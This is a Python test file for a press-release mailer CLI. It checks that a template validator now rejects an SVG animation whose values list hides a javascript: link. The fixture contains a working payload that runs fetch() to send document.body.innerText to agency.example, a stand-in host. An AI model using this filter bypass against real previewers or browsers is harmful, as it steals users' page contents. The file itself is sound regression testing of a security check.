"""Review 24x: a hostile reviewer's findings in the day's merged work, each a test that failed before its fix."""

from __future__ import annotations

from pathlib import Path

from conftest import ROOT
from office_cli import mailer, said


def _agency_release(project: Path, extra: str) -> Path:
    """An agency's folder: its release names its own template, kit.html.j2, the built-in one with ``extra`` added."""
    folder = project / "agency"
    folder.mkdir()
    text = (ROOT / "releases" / "example.md").read_text(encoding="utf-8")
    (folder / "pitch.md").write_text(text.replace("---\n", "---\ntemplate: kit\n", 1), encoding="utf-8")
    html = (ROOT / "templates" / "release.html.j2").read_text(encoding="utf-8")
    (folder / "kit.html.j2").write_text(html.replace("</body>", f"{extra}\n</body>"), encoding="utf-8")
    for suffix in ("txt.j2", "css"):
        (folder / f"kit.{suffix}").write_text((ROOT / "templates" / f"release.{suffix}").read_text(encoding="utf-8"), encoding="utf-8")
    return folder / "pitch.md"


# -- 1. an SVG animation's list of values slipped a javascript: link past the template check ----------


def test_a_template_cannot_hide_a_javascript_link_in_an_svg_animations_list(project: Path) -> None:
    """An agency's template may not run anything in the press officer's browser (review 24k #1), yet
    <animate attributeName="href" values="https://...;javascript:..."> went through: only the list's
    first address was read, and the link it animates runs the agency's script when she clicks it in
    `mailer preview --open`. Each address of the list is read now, and the template refused."""
    svg = (
        '<svg width="200" height="30"><a><animate attributeName="href" dur="2s" repeatCount="indefinite" '
        'values="https://agency.example/; javascript:fetch(`https://agency.example/?d=`+document.body.innerText)"/>'
        '<text x="0" y="20">Our press kit</text></a></svg>'
    )
    release = _agency_release(project, svg)
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "javascript: is not allowed in an email template" in said(result), result.output
    assert not (project / "out" / "pitch.html").exists()
    # an animation between two web addresses is no script
    (project / "agency" / "kit.html.j2").write_text(
        (project / "agency" / "kit.html.j2").read_text(encoding="utf-8").replace("javascript:fetch", "https://example.org/?fetch"),
        encoding="utf-8",
    )
    assert mailer("preview", str(release), "-o", "out").exit_code == 0
